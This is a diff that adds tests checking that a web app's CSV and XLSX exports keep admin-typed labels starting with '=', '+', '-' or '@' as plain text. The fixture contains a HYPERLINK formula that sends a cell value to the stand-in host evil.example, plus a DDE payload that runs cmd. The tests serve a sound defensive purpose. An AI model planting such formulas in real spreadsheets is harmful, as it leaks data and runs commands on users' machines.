@@ -386,3 +386,62 @@ def test_anonymous_visitors_are_sent_to_sign_in(client, shop, path):
     token = csrf_token_from(client, "/login")
     response = client.get(path + "?created=all", headers={"X-CSRFToken": token})
     assert response.status_code == 302 and response.headers["Location"].startswith("/login")
+
+
+LABEL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def formula_labels(app):
+    """Two activities whose title and field label an admin typed as formulas."""
+    apple = make_product(5, name="Apple")
+    fields = [
+        *contact(),
+        {
+            "name": "items",
+            "type": "products",
+            "label": "+Items",
+            "products": [{"product_id": apple.id}],
+        },
+        {"name": "remark", "type": "short_text", "label": LABEL},
+    ]
+    evil = make_template(title=TITLE, fields=fields).publish()
+    plain = make_template(title="Plain", kind="service", fields=contact()).publish()
+    order_for(evil, [(apple, 1)], answers={"name": "Ann", "remark": "-1"})
+    order_for(plain, [], answers={"name": "Bo"})
+    return {"evil": evil, "plain": plain}
+
+
+@pytest.mark.parametrize("several", [False, True], ids=["one activity", "two activities"])
+def test_a_label_typed_as_a_formula_stays_text_in_the_csv_header(
+    client, staff, login, formula_labels, several
+):
+    login(staff)
+    query = "created=all" if several else f"template={formula_labels['evil'].template_id}"
+    response = client.get(f"/board/export.csv?{query}", headers=EN)
+    header_row = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    fields = header_row[len(FIXED) :]
+    label, items = (f"{TITLE} · {LABEL}", f"{TITLE} · +Items") if several else (LABEL, "+Items")
+    assert "'" + label in fields and "'" + items in fields
+    assert not [cell for cell in header_row if cell.startswith(("=", "+", "-", "@"))]
+
+
+@pytest.mark.parametrize("several", [False, True], ids=["one activity", "two activities"])
+def test_a_label_typed_as_a_formula_stays_text_in_the_xlsx(
+    client, staff, login, formula_labels, several
+):
+    login(staff)
+    query = "created=all" if several else f"template={formula_labels['evil'].template_id}"
+    sheet = load_workbook(io.BytesIO(download_xlsx(client, query).data)).active
+    label = f"{TITLE} · {LABEL}" if several else LABEL
+    header_cells = {cell.value: cell for cell in sheet[1]}
+    assert label in header_cells
+    for value, cell in header_cells.items():
+        assert cell.data_type == "s", value  # not "f": no formula anywhere in the header
+    assert header_cells[label].quotePrefix  # Excel keeps it text when the cell is edited
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
+                assert cell.quotePrefix, cell.value
